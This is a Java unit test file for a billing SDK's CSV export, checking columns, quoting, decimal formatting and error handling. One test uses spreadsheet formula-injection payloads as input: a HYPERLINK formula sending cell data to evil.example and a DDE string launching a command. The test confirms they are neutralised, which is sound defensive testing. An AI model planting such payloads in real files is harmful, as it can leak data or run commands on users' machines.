package dev.billingsdk.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.billingsdk.AccountId;
import dev.billingsdk.InvalidRequestException;
import dev.billingsdk.export.CsvExport.StatementTable;
import dev.billingsdk.statement.Statement;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class CsvExportTest {
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
  static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

  static List<CSVRecord> parse(String csv) throws IOException {
    try (CSVParser p = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180)) {
      return p.getRecords();
    }
  }

  /** The cell of a row (1 is the first after the header) in the named column. */
  static String cell(List<CSVRecord> records, int row, String column) {
    int i = records.get(0).toList().indexOf(column);
    assertThat(i).as("column " + column).isNotNegative();
    return records.get(row).get(i);
  }

  static List<String> row(List<CSVRecord> records, int i) {
    return records.get(i).toList();
  }

  @Test
  void a_realistic_statement_exports_its_summary_lines_machines_and_hours_exactly()
      throws Exception {
    ExportWorld world = new ExportWorld();
    AccountId licence = world.open("licence-1", "uma");
    Statement s = world.october(licence);

    List<CSVRecord> summary = parse(CsvExport.statement(s, StatementTable.SUMMARY));
    assertThat(row(summary, 0))
        .containsExactly(
            "tenant",
            "account",
            "month",
            "status",
            "unit",
            "opening",
            "credits",
            "charges",
            "reversals",
            "expiries_voids_refunds",
            "closing",
            "transactions",
            "closed_at");
    assertThat(row(summary, 1))
        .containsExactly(
            "acme",
            "licence-1",
            "2026-10",
            "CLOSED",
            "CREDIT",
            "0.00",
            "2200.00",
            s.charges().toDecimal().toPlainString(),
            "0.00",
            s.expiriesAndVoids().toDecimal().toPlainString(),
            s.closing().toDecimal().toPlainString(),
            Long.toString(s.transactions()),
            "2026-11-01T00:10:00Z");
    assertThat(summary).hasSize(2);

    List<CSVRecord> lines = parse(CsvExport.statement(s, StatementTable.LINES));
    assertThat(lines).hasSize(1 + s.lines().size());
    assertThat(row(lines, 1))
        .containsExactly(
            "licence-1", "2026-10", "CREDIT", "PROMOTIONAL", "", "200.00", "CREDIT", "1");

    List<CSVRecord> machines = parse(CsvExport.statement(s, StatementTable.MACHINES));
    assertThat(row(machines, 0))
        .containsExactly(
            "account",
            "month",
            "meter",
            "period",
            "instance",
            "start",
            "duration",
            "quantity",
            "credits",
            "unit",
            "dimension:instance",
            "dimension:pool",
            "dimension:region",
            "dimension:type");
    assertThat(machines).hasSize(7);
    // m1 ran 08:00-14:00 at 12 credits an hour; m6 8 h 15 min.
    assertThat(row(machines, 1))
        .containsExactly(
            "licence-1",
            "2026-10",
            "machines",
            "2026-10",
            "m1",
            "2026-10-03T08:00:00Z",
            "PT6H",
            "21600",
            "72.00",
            "CREDIT",
            "m1",
            "gpu",
            "eu-west",
            "a100");
    assertThat(cell(machines, 6, "duration")).isEqualTo("PT8H15M");
    assertThat(cell(machines, 6, "credits")).isEqualTo("99.00");
    assertThat(parse(CsvExport.statement(s, StatementTable.USAGE))).hasSize(7);

    List<CSVRecord> hourly = parse(CsvExport.statement(s, StatementTable.HOURLY));
    assertThat(row(hourly, 0)).containsExactly("hour", "credits", "unit", "instances");
    assertThat(row(hourly, 1)).containsExactly("2026-10-03T08:00:00Z", "12.00", "CREDIT", "1");
    assertThat(row(hourly, 2)).containsExactly("2026-10-03T09:00:00Z", "18.00", "CREDIT", "2");
    List<CSVRecord> byPool = parse(CsvExport.hourlyBy(s, "pool"));
    assertThat(row(byPool, 0)).containsExactly("hour", "pool", "credits", "unit", "instances");
    assertThat(row(byPool, 2))
        .containsExactly("2026-10-03T09:00:00Z", "cpu", "6.00", "CREDIT", "1");
  }

  @Test
  void the_file_is_rfc_4180_crlf_lines_and_quotes_only_where_needed() {
    Statement s = HandMade.statement("licence-1", "PURCHASED", "gpu, \"big\"\nfloor 2");
    String csv = CsvExport.statement(s, StatementTable.MACHINES);
    assertThat(csv).endsWith("\r\n").doesNotContain("\n\n");
    assertThat(csv.split("\r\n", -1)[1])
        .isEqualTo(
            "licence-1,2026-10,machines,2026-10,m1,2026-10-03T10:00:00Z,PT2H,7200,24.00,CREDIT,"
                + "m1,\"gpu, \"\"big\"\"\nfloor 2\",eu-west");
  }

  @Test
  void formulas_in_ids_keys_and_dimensions_are_neutralised_numbers_are_not() throws Exception {
    Statement s = HandMade.statement(HYPERLINK, "+cmd", DDE);
    String lines = CsvExport.statement(s, StatementTable.LINES);
    assertThat(lines).doesNotContain("," + HYPERLINK).doesNotContain("\n=").doesNotContain(",+");
    List<CSVRecord> parsed = parse(lines);
    assertThat(cell(parsed, 1, "account")).isEqualTo("'" + HYPERLINK);
    assertThat(cell(parsed, 1, "key")).isEqualTo("'+cmd");

    List<CSVRecord> machines = parse(CsvExport.statement(s, StatementTable.MACHINES));
    assertThat(cell(machines, 1, "dimension:pool")).isEqualTo("'" + DDE);
    assertThat(cell(machines, 1, "account")).isEqualTo("'" + HYPERLINK);
    assertThat(parse(CsvExport.hourlyBy(s, "pool")).get(1).get(1)).isEqualTo("'" + DDE);
    // A dimension named like a formula is a text header too.
    assertThat(parse(CsvExport.hourlyBy(s, "=1+2")).get(0).get(1)).isEqualTo("'=1+2");
    // A negative amount is a number, written as the exact decimal.
    List<CSVRecord> summaries =
        parse(
            CsvExport.usageSummaries(
                List.of(
                    HandMade.summary("-1", "=cmd", Map.of("pool", "\tgpu", "zone", "\rz"), "-5.00"),
                    HandMade.converted(
                        HandMade.summary("acct", "machines", Map.of("pool", "-2+3"), "12.50"),
                        "0.13"))));
    assertThat(cell(summaries, 1, "account")).isEqualTo("'-1");
    assertThat(cell(summaries, 1, "meter")).isEqualTo("'=cmd");
    assertThat(cell(summaries, 1, "dimension:pool")).isEqualTo("'\tgpu");
    assertThat(cell(summaries, 1, "dimension:zone")).isEqualTo("'\rz");
    assertThat(cell(summaries, 1, "credits")).isEqualTo("-5.00");
    assertThat(cell(summaries, 1, "currency_amount")).isEmpty();
    assertThat(cell(summaries, 2, "dimension:pool"))
        .as("text that looks like arithmetic is still text")
        .isEqualTo("'-2+3");
    assertThat(cell(summaries, 2, "currency_amount")).isEqualTo("0.13");
    assertThat(cell(summaries, 2, "currency")).isEqualTo("USD");
  }

  @Test
  void usage_summaries_have_one_column_per_dimension_name_and_keep_their_order() throws Exception {
    List<CSVRecord> rows =
        parse(
            CsvExport.usageSummaries(
                List.of(
                    HandMade.summary("b", "tokens", Map.of("model", "large"), "3.00"),
                    HandMade.summary("a", "machines", Map.of("pool", "gpu"), "12.00"))));
    assertThat(row(rows, 0))
        .containsExactly(
            "tenant",
            "account",
            "month",
            "meter",
            "quantity",
            "credits",
            "unit",
            "currency_amount",
            "currency",
            "dimension:model",
            "dimension:pool");
    assertThat(row(rows, 1))
        .containsExactly(
            "acme", "b", "2026-10", "tokens", "1800", "3.00", "CREDIT", "", "", "large", "");
    assertThat(row(rows, 2).get(3)).isEqualTo("machines");
    assertThat(CsvExport.usageSummaries(List.of()))
        .isEqualTo("tenant,account,month,meter,quantity,credits,unit,currency_amount,currency\r\n");
  }

  @Test
  void amounts_are_never_scientific() throws Exception {
    Statement s = HandMade.statement("a", "PURCHASED", "gpu");
    String csv = CsvExport.statement(s, StatementTable.SUMMARY);
    assertThat(csv).doesNotContainIgnoringCase("e+").contains(",0.00,");
    List<CSVRecord> big =
        parse(
            CsvExport.usageSummaries(
                List.of(HandMade.summary("a", "m", Map.of(), "100000000000.00"))));
    assertThat(cell(big, 1, "credits")).isEqualTo("100000000000.00");
  }

  @Test
  void other_usage_has_no_instance_start_only_and_late_lines_name_their_month() throws Exception {
    Statement s = HandMade.everySection();
    List<CSVRecord> usage = parse(CsvExport.statement(s, StatementTable.USAGE));
    assertThat(row(usage, 1))
        .containsExactly(
            "acct",
            "2026-10",
            "tokens",
            "2026-10",
            "",
            "2026-10-05T14:00:00Z",
            "",
            "1500.5",
            "3.50",
            "CREDIT",
            "large");
    assertThat(parse(CsvExport.statement(s, StatementTable.MACHINES))).hasSize(1);
    List<CSVRecord> lines = parse(CsvExport.statement(s, StatementTable.LINES));
    assertThat(cell(lines, 8, "section")).isEqualTo("VOID");
    assertThat(cell(lines, 8, "late_for")).isEqualTo("2026-09");
    assertThat(cell(parse(CsvExport.statement(s, StatementTable.SUMMARY)), 1, "closed_at"))
        .isEmpty();
    StringBuilder out = new StringBuilder();
    CsvExport.writeStatement(s, StatementTable.HOURLY, out);
    assertThat(out.toString())
        .isEqualTo("hour,credits,unit,instances\r\n2026-10-05T14:00:00Z,3.50,CREDIT,0\r\n");
  }

  @Test
  void missing_input_is_refused_naming_the_field() {
    assertThatThrownBy(() -> CsvExport.statement(null, StatementTable.SUMMARY))
        .isInstanceOf(InvalidRequestException.class)
        .hasMessageContaining("statement");
    Statement s = HandMade.statement("a", "PURCHASED", "gpu");
    assertThatThrownBy(() -> CsvExport.statement(s, null))
        .isInstanceOf(InvalidRequestException.class)
        .hasMessageContaining("table");
    assertThatThrownBy(() -> CsvExport.hourlyBy(s, " "))
        .isInstanceOf(InvalidRequestException.class)
        .hasMessageContaining("dimension");
    assertThatThrownBy(() -> CsvExport.usageSummaries(null))
        .isInstanceOf(InvalidRequestException.class)
        .hasMessageContaining("rows");
    assertThatThrownBy(
            () ->
                CsvExport.usageSummaries(
                    java.util.Arrays.asList((dev.billingsdk.metering.UsageSummaryRow) null)))
        .isInstanceOf(InvalidRequestException.class)
        .hasMessageContaining("rows");
  }
}
